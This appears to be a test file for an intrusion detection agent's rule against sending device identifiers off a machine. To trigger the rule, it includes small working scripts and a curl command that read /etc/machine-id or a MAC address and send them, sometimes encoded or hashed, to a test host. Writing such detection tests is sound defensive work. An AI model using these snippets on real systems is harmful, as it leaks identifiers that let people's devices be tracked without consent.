# SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
"""Identifier files read then sent off the machine: confirmed alerts in each encoding; benign quiet."""
import base64
import hashlib
import os
import re
import subprocess
import tempfile

from idslib import Agent, POLICY_MACHINE_ID, expect, expect_eq, machine_id, run_py

DEFAULT = os.path.join(os.path.dirname(__file__), "..", "..", "policies", "default.yaml")

SEND_TCP = """
import socket, sys
data = sys.argv[3].encode()
s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=5)
s.sendall(b"POST / HTTP/1.1\\r\\nHost: t\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(data) + data)
s.recv(100)
"""

READ_AND_SEND_TCP = """
import socket, sys
value = open(sys.argv[3]).read().strip()
s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=5)
s.sendall(("GET /?v=" + value + " HTTP/1.0\\r\\n\\r\\n").encode())
s.close()
"""


def control_alert(agent, host):
    """A send that must alert: once it has, every earlier event has been handled too."""
    pid, _ = run_py(READ_AND_SEND_TCP, host.addr, 8080, "/etc/machine-id")
    agent.wait_alert(process__pid=pid)


def test_curl_machine_id_gives_the_contract_alert(host):
    with Agent(DEFAULT) as agent:
        curl = subprocess.Popen(["curl", "-s", "-o", "/dev/null", "--max-time", "5", "--data-binary",
                                 "@/etc/machine-id", "http://%s:8080/" % host.addr])
        expect_eq(0, curl.wait(10), "curl exit status")
        a = agent.wait_alert(process__pid=curl.pid)
    expect(re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z", a["ts"]), "an RFC 3339 UTC ts")
    expect_eq("identifier-exfiltration", a["rule"], "rule")
    expect_eq("high", a["severity"], "severity")
    expect_eq("alert", a["action"], "action")
    expect_eq("confirmed", a["confidence"], "confidence")
    p = a["process"]
    expect_eq("curl", p["comm"], "process.comm")
    expect_eq(os.path.realpath("/usr/bin/curl"), p["exe"], "process.exe")
    expect_eq(os.getpid(), p["ppid"], "process.ppid")
    expect_eq(0, p["uid"], "process.uid")
    expect("--data-binary @/etc/machine-id" in p["cmdline"], "the curl command line in process.cmdline")
    expect_eq(1, len(a["identifiers"]), "number of identifiers")
    ident = a["identifiers"][0]
    mid = machine_id()
    expect_eq("machine-id", ident["name"], "identifier name")
    expect_eq("file", ident["source"], "identifier source")
    expect_eq("/etc/machine-id", ident["path"], "identifier path")
    expect(mid not in ident["value"], "the value redacted, got %r" % ident["value"])
    expect_eq(mid[:4] + "…" + mid[-4:], ident["value"], "redacted value")
    d = a["destination"]
    expect_eq({"proto": "tcp", "family": "ipv4", "addr": host.addr, "port": 8080, "host": None}, d,
              "destination")
    expect_eq("socket", a["evidence"]["channel"], "evidence.channel")
    expect_eq("plain", a["evidence"]["encoding"], "evidence.encoding")
    expect(isinstance(a["evidence"]["offset"], int) and a["evidence"]["offset"] > 0,
           "a positive evidence.offset (the body follows the headers)")
    expect(mid in host.received(), "the test host to have received the machine-id")


def test_sha256_of_machine_id_over_tcp(host):
    code = """
import hashlib, socket, sys
mid = open("/etc/machine-id").read().strip()
s = socket.create_connection((sys.argv[1], 9000), timeout=5)
s.sendall(b"id=" + hashlib.sha256(mid.encode()).hexdigest().encode())
"""
    with Agent(DEFAULT) as agent:
        pid, _ = run_py(code, host.addr)
        a = agent.wait_alert(process__pid=pid)
    expect_eq("confirmed", a["confidence"], "confidence")
    expect_eq("sha256", a["evidence"]["encoding"], "evidence.encoding")
    expect_eq(3, a["evidence"]["offset"], "evidence.offset")
    expect_eq(["machine-id"], [i["name"] for i in a["identifiers"]], "identifiers")
    expect_eq(9000, a["destination"]["port"], "destination.port")
    expect(hashlib.sha256(machine_id().encode()).hexdigest() in host.received(), "the digest to arrive")


def test_base64_of_mac_over_udp(host):
    code = """
import base64, socket, sys
mac = open("/sys/class/net/%s/address" % sys.argv[2]).read().strip()
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.sendto(base64.b64encode(mac.encode()), (sys.argv[1], 9999))
"""
    with Agent(DEFAULT) as agent:
        pid, _ = run_py(code, host.addr, host.veth)
        a = agent.wait_alert(process__pid=pid)
    expect_eq("confirmed", a["confidence"], "confidence")
    expect_eq("base64", a["evidence"]["encoding"], "evidence.encoding")
    expect_eq(["mac-address"], [i["name"] for i in a["identifiers"]], "identifiers")
    expect_eq("/sys/class/net/%s/address" % host.veth, a["identifiers"][0]["path"], "identifier path")
    expect_eq({"proto": "udp", "family": "ipv4", "addr": host.addr, "port": 9999, "host": None},
              a["destination"], "destination")
    with open("/sys/class/net/%s/address" % host.veth) as f:
        expect(base64.b64encode(f.read().strip().encode()).decode() in host.received(), "the datagram to arrive")


def test_hex_without_separators_and_url_encoding(host):
    code = """
import socket, sys, urllib.parse
mac = open("/sys/class/net/%s/address" % sys.argv[2]).read().strip()
mid = open("/etc/machine-id").read().strip()
s = socket.create_connection((sys.argv[1], 9000), timeout=5)
s.sendall(("m=" + mac.replace(":", "").upper()).encode())
t = socket.create_connection((sys.argv[1], 9000), timeout=5)
t.sendall(("q=" + urllib.parse.quote(mac, safe="")).encode())
"""
    with Agent(DEFAULT) as agent:
        pid, _ = run_py(code, host.addr, host.veth)
        agent.wait_for(lambda r: r["type"] == "alert" and r["process"]["pid"] == pid
                       and r["evidence"]["encoding"] == "url", what="url-encoded MAC alert")
        a = agent.wait_alert(process__pid=pid, evidence__encoding="plain")
    expect_eq(["mac-address"], [i["name"] for i in a["identifiers"]], "identifiers")


def test_benign_file_sent_gives_no_alert(host):
    code = """
import socket, sys
data = open("/etc/hostname").read().strip() + "/" + open("/etc/os-release").read()[:40]
s = socket.create_connection((sys.argv[1], 9000), timeout=5)
s.sendall(data.encode())
"""
    with Agent(DEFAULT) as agent:
        pid, _ = run_py(code, host.addr)
        control_alert(agent, host)
        expect_eq([], agent.alerts(process__pid=pid), "alerts for the benign sender")


def test_identifier_fd_closed_and_its_number_reused_gives_no_value(host):
    """No program runs at close: the fd number of a closed identifier file, taken again by another
    file, must not make that file's bytes an identifier's (its entry is checked at the read)."""
    token = "fd-reuse-token-%s" % os.urandom(6).hex()
    with tempfile.NamedTemporaryFile("w", suffix=".txt", delete=False) as f:
        f.write(token)
    code = """
import os, socket, sys
fd = os.open("/etc/machine-id", os.O_RDONLY)
os.close(fd)
fd2 = os.open(sys.argv[2], os.O_RDONLY)
assert fd2 == fd, (fd, fd2)
v = os.read(fd2, 64)
s = socket.create_connection((sys.argv[1], 9000), timeout=5)
s.sendall(v)
"""
    try:
        # the hooks attached throughout: the open exit watches the fd, and nothing sees its close
        with Agent(DEFAULT, args=("--hooks", "always")) as agent:
            pid, _ = run_py(code, host.addr, f.name)
            control_alert(agent, host)
            expect_eq([], agent.alerts(process__pid=pid), "alerts for the reader of the other file")
    finally:
        os.unlink(f.name)


def test_loopback_destination_is_excepted_by_default(host):
    code = """
import socket
mid = open("/etc/machine-id").read().strip()
srv = socket.create_server(("127.0.0.1", 0))
c = socket.create_connection(srv.getsockname(), timeout=5)
c.sendall(mid.encode())
a, _ = srv.accept()
assert a.recv(100) == mid.encode()
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.sendto(mid.encode(), ("127.0.0.1", 9))
"""
    with Agent(DEFAULT) as agent:
        pid, _ = run_py(code)
        control_alert(agent, host)
        expect_eq([], agent.alerts(process__pid=pid), "alerts for sends to loopback")


def test_encrypted_payload_is_suspected_once_per_destination(host):
    code = """
import os, socket, sys
open("/etc/machine-id").read()
for _ in range(3):
    s = socket.create_connection((sys.argv[1], 9000), timeout=5)
    s.sendall(os.urandom(48))
    s.close()
"""
    with Agent(policy_text=POLICY_MACHINE_ID) as agent:
        pid, _ = run_py(code, host.addr)
        a = agent.wait_alert(process__pid=pid)
        control_alert(agent, host)
        alerts = agent.alerts(process__pid=pid)
    expect_eq(1, len(alerts), "suspected alerts (deduplicated per process and destination)")
    expect_eq("suspected", a["confidence"], "confidence")
    expect_eq("medium", a["severity"], "severity (one step below the rule's)")
    expect_eq(["machine-id"], [i["name"] for i in a["identifiers"]], "identifiers")
    expect("encoding" not in a["evidence"], "no encoding for a suspected alert")


def test_show_values_prints_the_value(host):
    with Agent(policy_text=POLICY_MACHINE_ID, args=["--show-values"]) as agent:
        pid, _ = run_py(READ_AND_SEND_TCP, host.addr, 9000, "/etc/machine-id")
        a = agent.wait_alert(process__pid=pid)
    expect_eq(machine_id(), a["identifiers"][0]["value"], "the whole value with --show-values")


def test_forked_child_inherits_taint(host):
    code = """
import os, socket, sys
mid = open("/etc/machine-id").read().strip()
pid = os.fork()
if pid == 0:
    s = socket.create_connection((sys.argv[1], 9000), timeout=5)
    s.sendall(mid.encode())
    os._exit(0)
os.waitpid(pid, 0)
print(pid)
"""
    with Agent(policy_text=POLICY_MACHINE_ID) as agent:
        _, out = run_py(code, host.addr)
        child = int(out.strip())
        a = agent.wait_alert(process__pid=child)
    expect_eq("confirmed", a["confidence"], "confidence for the forked child")
